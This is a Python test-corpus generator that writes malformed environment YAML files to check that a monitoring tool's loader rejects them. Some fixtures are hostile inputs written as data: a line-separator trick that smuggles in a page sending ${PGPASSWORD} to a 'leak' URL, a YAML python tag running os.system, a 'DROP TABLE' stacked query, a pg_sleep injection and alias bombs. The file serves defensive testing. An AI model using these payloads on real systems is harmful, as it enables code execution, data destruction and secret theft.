"""Writes the malformed environment files of this folder and, with --expected, the messages the
loader gives for them today (expected.json), for a person to read before committing.

    python tests/malformed/make_corpus.py             # (re)write the files
    python tests/malformed/make_corpus.py --expected  # and record today's messages

Each case is a file a person or a tool could really hand to `--env`: every class of issue 17 (bytes
that are not UTF-8 text, YAML that hangs or recurses, values a check would dereference and crash on,
literal secrets, errors that must point at the right line) and what else we thought of.
"""

from __future__ import annotations

import codecs
import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
T = "name: t\nkind: test\n"
APP = T + "base_urls: {app: 'https://app.example.com'}\n"
PG = T + "databases:\n  - name: main\n    engine: postgresql\n    dsn: "
RD = T + "caches:\n  - name: cache\n    url: "
HDR = T + "http:\n  headers:\n    "
TH = T + "thresholds:\n  "


def bomb(levels: int, fan: int) -> str:
    lines = [T, 'a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n']
    for level in range(1, levels):
        refs = ", ".join([f"*a{level - 1}"] * fan)
        lines.append(f"a{level}: &a{level} [{refs}]\n")
    return "".join(lines)


CASES: dict[str, str | bytes] = {
    # --- bytes that are not UTF-8 YAML text ---------------------------------------------------------
    "bytes-png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10",
    "bytes-gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xcb\xcb\xcc",
    "bytes-nul-in-middle": (T + "description: a\x00b\n").encode(),
    "bytes-latin1-comment": (T + "# caf\xe9 au lait\n").encode("latin-1"),
    "bytes-latin1-value": (T + "description: Gr\xfc\xdfe aus M\xfcnchen\n").encode("latin-1"),
    "bytes-cp1252-smart-quotes": (T + "description: \u201csmart\u201d\n").encode("cp1252"),
    "bytes-utf16-le-bom": (codecs.BOM_UTF16_LE + T.encode("utf-16-le")),
    "bytes-utf16-be-bom": (codecs.BOM_UTF16_BE + T.encode("utf-16-be")),
    "bytes-utf32-bom": (codecs.BOM_UTF32_LE + T.encode("utf-32-le")),
    "bytes-utf16-no-bom": T.encode("utf-16-le"),
    "bytes-truncated-utf8": (T + "description: caf").encode() + b"\xc3",
    "bytes-surrogate-cesu": (T + "description: ").encode() + b"\xed\xa0\x80\n",
    "chars-bell": T + "description: ring\x07\n",
    "chars-ansi-escape": T + "description: \x1b[31mred\x1b[0m\n",
    "chars-form-feed": T + "\x0cpages: []\n",
    "chars-delete": T + "description: x\x7f\n",
    "chars-c1-control": T + "description: x\x9b\n",
    "chars-bom-in-middle": T + "description: x\ufeffy\n",
    "chars-nonchar-ffff": T + "description: x\uffff\n",
    # line breaks to libyaml that editors do not show: outside quotes they end a comment or a plain value
    # and what follows is read as keys (issue 25: how a discovered value could add a page to init's file)
    "chars-line-separator-ends-comment": APP + "pages:\n  - {name: login, path: /login}  # HTTP 302 -> /login"
    "\u2028  - {name: injected, url: \"http://127.0.0.2:9/leak/${PGPASSWORD}\"}  #\n",
    "chars-line-separator-in-plain": T + "description: a\u2028endpoints: []\n",
    "chars-paragraph-separator-in-comment": T + "pages: []  # x\u2029description: y\n",
    "chars-paragraph-separator-in-block": T + "description: |\n  text\u2029injected: 1\n",
    "chars-next-line-ends-comment": T + "# note\x85description: x\n",
    "chars-next-line-in-flow-key": APP + "pages:\n  - {name: home, path: /\x85}\n",
    "chars-lone-cr-ends-comment": T + "pages: []  # x\rdescription: y\n",
    "chars-lone-cr-line-endings": T.replace("\n", "\r") + "pages: []\r",
    "chars-lone-cr-after-crlf": T.replace("\n", "\r\n") + "description: a\rb\r\n",
    # --- YAML that is not a usable document ----------------------------------------------------------
    "yaml-tab-indent": T + "pages:\n\t- name: home\n",
    "yaml-unclosed-quote": T + "description: 'no end\n",
    "yaml-unclosed-bracket": T + "pages: [{name: home, path: /}\n",
    "yaml-bad-indent": APP + "pages:\n  - name: home\n   path: /\n",
    "yaml-colon-in-value": T + "description: a: b\n",
    "yaml-duplicate-top-key": T + "pages: []\ntimeouts: {}\npages: []\n",
    "yaml-duplicate-nested-key": T + "timeouts:\n  http_s: 5\n  http_s: 6\n",
    "yaml-duplicate-in-list-item": APP + "pages:\n  - name: home\n    path: /\n    name: again\n",
    "yaml-alias-bomb": bomb(10, 9),
    "yaml-alias-bomb-wide": bomb(5, 60),
    "yaml-undefined-alias": T + "pages: *nothing\n",
    "yaml-deep-flow-5000": T + "x: " + "[" * 5000 + "]" * 5000 + "\n",
    "yaml-deep-block-100": T + "".join("  " * i + f"k{i}:\n" for i in range(100)) + "  " * 100 + "v: 1\n",
    "yaml-python-tag": T + "description: !!python/object/apply:os.system ['touch /tmp/pwned']\n",
    "yaml-custom-tag": T + "secrets_file: !include secrets.env\n",
    "yaml-binary-tag": T + "description: !!binary aGVsbG8=\n",
    "yaml-set-tag": T + "pages: !!set {a, b}\n",
    "yaml-two-documents": T + "---\n" + T,
    "yaml-empty": "",
    "yaml-only-comments": "# nothing here yet\n# name: t\n",
    "yaml-top-level-list": "- name: t\n- kind: test\n",
    "yaml-top-level-scalar": "production\n",
    "yaml-mapping-as-key": T + "? {a: 1}\n: value\n",
    "yaml-merge-not-mapping": T + "timeouts:\n  <<: [1, 2]\n",
    "yaml-merge-ok-then-unknown": T + "defaults: &d {http_s: 5}\ntimeouts:\n  <<: *d\n",
    "yaml-json-missing-comma": '{"name": "t" "kind": "test"}\n',
    "yaml-windows-line-endings-tab": T.replace("\n", "\r\n") + "pages:\r\n\t- {name: home}\r\n",
    # --- keys and types --------------------------------------------------------------------------------
    "key-unknown-top": T + "pagez: []\n",
    "key-unknown-nested": APP + "pages:\n  - name: home\n    path: /\n    expected_status: 200\n",
    "key-missing-kind": "name: t\n",
    "key-unknown-kind": "name: t\nkind: prod\n",
    "key-name-uppercase": "name: Production\nkind: test\n",
    "key-name-too-long": "name: " + "a" * 70 + "\nkind: test\n",
    "key-name-null": "name:\nkind: test\n",
    "key-date-as-string": "name: 2026-12-03\nkind: test\n",
    "key-status-not-number": APP + "pages:\n  - {name: home, path: /, expect_status: ok}\n",
    "key-status-out-of-range": APP + "pages:\n  - {name: home, path: /, expect_status: 999}\n",
    "key-list-instead-of-mapping": T + "timeouts: [5, 6]\n",
    "key-mapping-instead-of-list": T + "pages: {name: home}\n",
    "key-timeout-negative": T + "timeouts: {http_s: -1}\n",
    "key-timeout-too-long": T + "timeouts: {database_s: 86400}\n",
    "key-timeout-string": T + "timeouts: {http_s: fast}\n",
    "key-concurrency-zero": T + "http: {max_concurrency: 0}\n",
    "key-body-bytes-huge": T + "http: {max_body_bytes: 99999999999}\n",
    "key-huge-integer": T + "http: {max_per_host: " + "9" * 5000 + "}\n",
    "key-bool-as-yes-string": T + "allow_mutating: maybe\n",
    "key-path-without-slash": APP + "pages:\n  - {name: home, path: index.html}\n",
    "key-path-and-url": APP + "pages:\n  - {name: home, path: /, url: 'https://x.example.com/'}\n",
    "key-database-without-engine": T + "databases:\n  - name: main\n    dsn: postgresql://db/app\n",
    "key-database-unknown-engine": T + "databases:\n  - name: main\n    engine: mysql\n    dsn: mysql://db/app\n",
    "key-body-condition-two-operators": APP + "health:\n  - name: api\n    path: /h\n    body:\n"
    "      - {path: status, equals: ok, contains: o}\n",
    "key-body-condition-bad-regex": APP + "health:\n  - name: api\n    path: /h\n    body:\n"
    "      - {path: status, matches: '(unclosed'}\n",
    "key-malformed-variable": T + "base_urls: {app: 'https://${HOST'}\n",
    # --- URLs a check would request ------------------------------------------------------------------
    "url-port-99999": T + "base_urls: {app: 'https://app.example.com:99999'}\n",
    "url-port-0": T + "base_urls: {app: 'https://app.example.com:0/'}\n",
    "url-port-not-a-number": T + "base_urls: {app: 'https://app.example.com:https/'}\n",
    "url-no-host": T + "base_urls: {app: 'https://'}\n",
    "url-no-host-path-only": T + "base_urls: {app: 'https:///index.html'}\n",
    "url-ftp-scheme": T + "base_urls: {app: 'ftp://files.example.com'}\n",
    "url-no-scheme": T + "base_urls: {app: 'www.example.com'}\n",
    "url-space-in-host": T + "base_urls: {app: 'https://app example.com'}\n",
    "url-literal-password": T + "base_urls: {app: 'https://admin:hunter2@app.example.com'}\n",
    "url-literal-token-query": T + "base_urls: {app: 'https://app.example.com/?token=abc123'}\n",
    "url-page-literal-api-key": APP + "pages:\n  - {name: home, url: 'https://x.example.com/?api_key=abc'}\n",
    "url-page-port-70000": APP + "pages:\n  - {name: home, url: 'http://x.example.com:70000/'}\n",
    "url-ipv6-unclosed": T + "base_urls: {app: 'https://[::1/'}\n",
    "url-tls-plain-http": T + "tls:\n  - {name: site, url: 'http://app.example.com'}\n",
    "url-tls-no-host": T + "tls:\n  - {name: site, url: 'https://:443'}\n",
    "url-webhook-not-http": T + "notify:\n  - {name: oncall, url: 'slack:#oncall'}\n",
    "url-runbook-base-garbage": T + "runbook_base_url: wiki\n",
    "url-status-page-no-host": T + "status_pages:\n  - {name: cf, url: 'https:///api/v2/status.json'}\n",
    "url-cors-origin-with-path": APP + "cors:\n  - {name: api, path: /api, origins: ['https://a.example.com/x']}\n",
    "url-from-variable-no-host": T + "base_urls: {app: '${APP_URL}'}\nsecrets_file: aux/app-url-no-host.env\n",
    # --- DSNs and Redis URLs, read by the drivers' own parsers -------------------------------------------
    "dsn-mysql-scheme": PG + "mysql://monitor@db.internal/app\n",
    "dsn-http-scheme": PG + "https://db.internal/app\n",
    "dsn-garbage": PG + "not a connection string\n",
    "dsn-port-not-a-number": PG + "postgresql://monitor@db.internal:pg/app\n",
    "dsn-port-99999": PG + "postgresql://monitor@db.internal:99999/app\n",
    "dsn-keyvalue-port-not-a-number": PG + "'host=db.internal port=x dbname=app'\n",
    "dsn-keyvalue-password": PG + "'host=db.internal dbname=app user=monitor password=hunter2'\n",
    "dsn-keyvalue-junk": PG + "'host=db.internal dbname=app junk'\n",
    "dsn-query-password": PG + "'postgresql://monitor@db.internal/app?password=hunter2'\n",
    "dsn-url-password": PG + "postgresql://monitor:hunter2@db.internal/app\n",
    "dsn-sslmode-bogus": PG + "'postgresql://monitor@db.internal/app?sslmode=sometimes'\n",
    "dsn-unclosed-quote": PG + "\"host='db.internal dbname=app\"\n",
    "dsn-from-variable-garbage": T + "secrets_file: aux/dsn-garbage.env\ndatabases:\n"
    "  - {name: main, engine: postgresql, dsn: '${DATABASE_URL}'}\n",
    "redis-port-not-a-number": RD + "redis://cache.internal:notaport/0\n",
    "redis-port-99999": RD + "redis://cache.internal:99999/0\n",
    "redis-http-scheme": RD + "http://cache.internal:6379/0\n",
    "redis-url-password": RD + "redis://:hunter2@cache.internal:6379/0\n",
    "redis-query-password": RD + "'redis://cache.internal:6379/0?password=hunter2'\n",
    "redis-literal-password-key": RD + "redis://cache.internal:6379/0\n    password: hunter2\n",
    "redis-no-host": RD + "redis://\n",
    "redis-from-variable-bad-port": T + "secrets_file: aux/redis-bad-port.env\ncaches:\n"
    "  - {name: cache, url: '${REDIS_URL}'}\n",
    # --- literal credentials in headers and bodies --------------------------------------------------------
    "secret-header-bearer": HDR + "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.abc\n",
    "secret-header-basic": HDR + "Authorization: Basic YWRtaW46aHVudGVyMg==\n",
    "secret-header-api-key": HDR + "X-Api-Key: 5f2b7c9a\n",
    "secret-header-cookie": HDR + "Cookie: session=abc123\n",
    "secret-header-token-scheme": HDR + "X-Forwarded-Auth: Token abc123\n",
    "secret-page-header": APP + "pages:\n  - name: home\n    path: /\n    headers: {Authorization: Bearer abc}\n",
    "secret-webhook-header": T + "notify:\n  - name: oncall\n    url: ${HOOK_URL}\n"
    "    headers: {X-Auth-Token: abc123}\n",
    "secret-booking-payload": APP + "booking:\n  submit:\n    path: /api/book\n"
    "    payload: {test: true, password: hunter2}\n",
    "secret-booking-payload-nested": APP + "booking:\n  submit:\n    path: /api/book\n"
    "    payload:\n      test: true\n      client:\n        api_key: abc123\n",
    # --- thresholds, windows and samples in sane ranges ----------------------------------------------------
    "threshold-samples-zero": TH + "PERF2: {samples: 0}\n",
    "threshold-samples-negative": TH + "PERF2: {samples: -3}\n",
    "threshold-samples-billion": TH + "PERF2: {samples: 1e9}\n",
    "threshold-samples-fraction": TH + "PERF2: {samples: 2.5}\n",
    "threshold-pct-over-100": TH + "DB3: {max_connections_pct: 150}\n",
    "threshold-pct-negative": TH + "PERF7: {min_hit_rate_pct: -5}\n",
    "threshold-window-negative": TH + "PAY4: {window_h: -24}\n",
    "threshold-window-zero": TH + "SEC5: {window_h: 0}\n",
    "threshold-tls-version": TH + "NET6: {min_tls_version: 1.5}\n",
    "threshold-diagnosis-typo": TH + "PERF02: {samples: 5}\n",
    "threshold-days-negative": TH + "NET5: {warning_days: -30}\n",
    "threshold-timeout-huge": TH + "PAY1: {timeout_s: 99999}\n",
    "threshold-nan": TH + "PERF2: {p95_ms: .nan}\n",
    "threshold-infinite": TH + "PERF2: {p95_ms: .inf}\n",
    "threshold-string": TH + "PERF2: {p95_ms: fast}\n",
    "threshold-unknown-name": TH + "DB3: {max_conn: 70}\n",
    "threshold-unknown-diagnosis": TH + "DB99: {max_connections_pct: 70}\n",
    "threshold-second-entry": TH + "DB3: {max_connections_pct: 70}\n  PERF2:\n    samples: 10\n    p95_ms: -1\n",
    "override-unknown-diagnosis": T + "severity_overrides:\n  AV1: high\n  av3: low\n",
    "override-severity-typo": T + "severity_overrides:\n  AV1: urgent\n",
    "target-latency-samples-zero": APP + "latency:\n  - {name: api, path: /, samples: 0}\n",
    "target-log-window-negative": T + "logs:\n  - {name: app, path: /var/log/app.log, window_min: -5}\n",
    "target-backup-age-negative": T + "backups:\n  - {name: db, directory: /backups, max_age_h: -1}\n",
    "target-disk-pct-over-100": T + "hosts:\n  - {name: web, min_free_disk_pct: 120}\n",
    "target-resolution-zero": T + "hostnames:\n  - {name: www, host: www.example.com, max_resolution_ms: 0}\n",
    # --- errors that must point at the entry, not its section -----------------------------------------------
    "place-duplicate-page-names": APP + "pages:\n  - {name: home, path: /}\n  - {name: about, path: /a}\n"
    "  - {name: home, path: /b}\n",
    "place-duplicate-database-names": T + "databases:\n  - {name: main, engine: sqlite, path: a.db}\n"
    "  - {name: main, engine: sqlite, path: b.db}\n",
    "place-production-allow-mutating": "name: p\nkind: production\ndescription: x\nallow_mutating: true\n",
    "place-base-not-declared": APP + "pages:\n  - {name: home, path: /}\n  - {name: api, path: /, base: api}\n",
    "place-tls-base-not-declared": APP + "tls:\n  - {name: site, base: www}\n",
    "place-unknown-provider": T + "hostnames:\n  - name: www\n    host: www.example.com\n"
    "    expect_in: [10.0.0.0/8, akamai]\n",
    "place-duplicate-webhooks": T + "notify:\n  - {name: oncall, url: '${A}'}\n  - {name: oncall, url: '${B}'}\n",
    "place-refresh-tokens-cache": T + "caches:\n  - {name: c, url: 'redis://c:6379/0'}\n"
    "auth:\n  refresh_tokens: {cache: sessions}\n",
    "place-port-99999": T + "ports:\n  - {name: db, address: 'db.internal:99999'}\n",
    "place-port-missing": T + "ports:\n  - {name: db, address: db.internal}\n",
    "place-nameserver-hostname": T + "dns:\n  nameservers: [resolver.example.com]\n",
    "place-expect-in-bad-cidr": T + "hostnames:\n  - {name: www, host: www.example.com, expect_in: [10.0.0.0/33]}\n",
    "place-many-problems": T + "pagez: []\ntimeouts: {http_s: -1}\nhttp: {max_concurrency: 0}\n",
    # --- secrets files --------------------------------------------------------------------------------------
    "secrets-file-garbage-line": T + "secrets_file: aux/garbage.env\n",
    "secrets-file-latin1": T + "secrets_file: aux/latin1.env\n",
    "secrets-file-binary": T + "secrets_file: aux/binary.env\n",
    "secrets-file-unset-variable": T + "secrets_file: ${SECRETS_DIR}/app.env\n",
    # --- the CA bundle every HTTPS request trusts --------------------------------------------------------------
    "ca-bundle-missing": T + "http: {ca_bundle: aux/nowhere.pem}\n",
    "ca-bundle-empty": T + "http: {ca_bundle: aux/empty.pem}\n",
    "ca-bundle-not-pem": T + "http: {ca_bundle: aux/not-pem.pem}\n",
    "ca-bundle-garbage-pem": T + "http: {ca_bundle: aux/garbage.pem}\n",
    "ca-bundle-key-only": T + "http: {ca_bundle: aux/key-only.pem}\n",
    "ca-bundle-directory": T + "http: {ca_bundle: aux}\n",
    # --- SQL declared in the file: read-only, side-effect free -------------------------------------------------
    "sql-hot-query-delete": PG + "postgresql://db/app\n    schema:\n      hot_queries:\n"
    "        - {name: purge, sql: 'DELETE FROM sessions'}\n",
    "sql-hot-query-advisory-lock": PG + "postgresql://db/app\n    schema:\n      hot_queries:\n"
    "        - {name: lock, sql: 'SELECT pg_try_advisory_lock(42)'}\n",
    "sql-hot-query-lo-create": PG + "postgresql://db/app\n    schema:\n      hot_queries:\n"
    "        - {name: lo, sql: 'SELECT lo_create(0)'}\n",
    "sql-hot-query-for-update": PG + "postgresql://db/app\n    schema:\n      hot_queries:\n"
    "        - {name: q, sql: 'SELECT * FROM payments FOR UPDATE'}\n",
    "sql-hot-query-two-statements": PG + "postgresql://db/app\n    schema:\n      hot_queries:\n"
    "        - {name: q, sql: 'SELECT 1; DROP TABLE users'}\n",
    "sql-hot-query-nextval": PG + "postgresql://db/app\n    schema:\n      hot_queries:\n"
    "        - {name: q, sql: \"SELECT nextval('invoice_seq')\"}\n",
    "sql-invariant-set-config": PG + "postgresql://db/app\n    schema:\n      invariants:\n"
    "        - {name: q, table: invoices, holds: \"set_config('x', '1', false) IS NOT NULL\"}\n",
    "sql-invariant-not-sql": PG + "postgresql://db/app\n    schema:\n      invariants:\n"
    "        - {name: q, table: invoices, holds: 'total >= 0 AND'}\n",
    "sql-data-pg-sleep": PG + "postgresql://db/app\n    data:\n"
    "      payments: {created_at: \"created_at + pg_sleep(5)::text::interval\"}\n",
    # --- declared checks: conditions and probe blocks (issue 18) -------------------------------------
    "declared-condition-unknown-root": APP + "declared_checks:\n  - name: stats\n    diagnosis: AV2\n"
    "    http: {path: /queue/stats}\n    expect: [status == 200, jsn.stuck == 0]\n",
    "declared-condition-unknown-unit": APP + "declared_checks:\n  - name: stats\n    diagnosis: AV2\n"
    "    http: {path: /queue/stats}\n    expect: time.total < 5 sec\n",
    "declared-condition-unbalanced": APP + "declared_checks:\n  - name: stats\n    diagnosis: AV2\n"
    "    http: {path: /queue/stats}\n    expect: (status == 200 and json.ok\n",
    "declared-condition-bad-regex": APP + "declared_checks:\n  - name: stats\n    diagnosis: AV2\n"
    "    http: {path: /}\n    expect: body matches /(unclosed/\n",
    "declared-sql-that-writes": PG + "postgresql://db/app\ndeclared_checks:\n  - name: purge\n    diagnosis: DB1\n"
    "    sql: {database: main, query: 'DELETE FROM jobs'}\n    expect: count == 0\n",
    "declared-redis-keys": RD + "redis://cache.internal:6379/0\ndeclared_checks:\n  - name: keys\n"
    "    diagnosis: CACHE1\n    redis: {cache: cache, command: KEYS}\n    expect: count == 0\n",
    "declared-two-probe-blocks": APP + "declared_checks:\n  - name: both\n    diagnosis: AV2\n"
    "    http: {path: /}\n    tcp: {address: 'app.example.com:443'}\n    expect: status == 200\n",
    "declared-unknown-diagnosis": APP + "declared_checks:\n  - name: stats\n    diagnosis: QUEUE-9\n"
    "    http: {path: /}\n    expect: status == 200\n",
}

AUX: dict[str, str | bytes] = {
    "aux/app-url-no-host.env": "APP_URL=https://\n",
    "aux/dsn-garbage.env": "DATABASE_URL=not a dsn at all\n",
    "aux/redis-bad-port.env": "REDIS_URL=redis://cache.internal:sixthousand/0\n",
    "aux/garbage.env": "# secrets\nAPI_TOKEN=abc\nthis line is not KEY=VALUE\n",
    "aux/latin1.env": "PASSWORD=caf\xe9\n".encode("latin-1"),
    "aux/binary.env": b"\x00\x01\x02secret",
    "aux/empty.pem": "",
    "aux/not-pem.pem": "this is not a certificate\n",
    "aux/garbage.pem": "-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydGlmaWNhdGU=\n-----END CERTIFICATE-----\n",
    "aux/key-only.pem": "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END PRIVATE KEY-----\n",
}


def write() -> None:
    for stale in HERE.glob("*.yaml"):
        if stale.stem not in CASES:
            stale.unlink()
    for name, content in {**{f"{k}.yaml": v for k, v in CASES.items()}, **AUX}.items():
        path = HERE / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())


def record() -> None:
    sys.path.insert(0, str(HERE.parents[1]))
    from healthsuite.environment.loader import load_environment
    from healthsuite.environment.problems import EnvironmentFileError

    expected = {}
    for name in sorted(CASES):
        try:
            load_environment(HERE / f"{name}.yaml", {})
        except EnvironmentFileError as exc:
            expected[name] = str(exc).replace(str(HERE), "{corpus}")
        else:
            expected[name] = "LOADED (not refused)"
    (HERE / "expected.json").write_text(json.dumps(expected, indent=1, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    write()
    if "--expected" in sys.argv:
        record()
